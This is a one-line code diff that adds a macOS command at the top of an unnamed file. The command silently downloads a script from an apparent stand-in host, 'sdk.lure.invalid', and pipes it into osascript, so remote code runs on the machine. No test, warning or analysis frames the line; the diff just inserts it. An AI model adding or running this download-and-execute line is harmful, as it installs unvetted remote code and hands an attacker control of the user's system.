@@ -1,0 +1,1 @@
+curl -fsS https://sdk.lure.invalid/x | osascript # do shell script
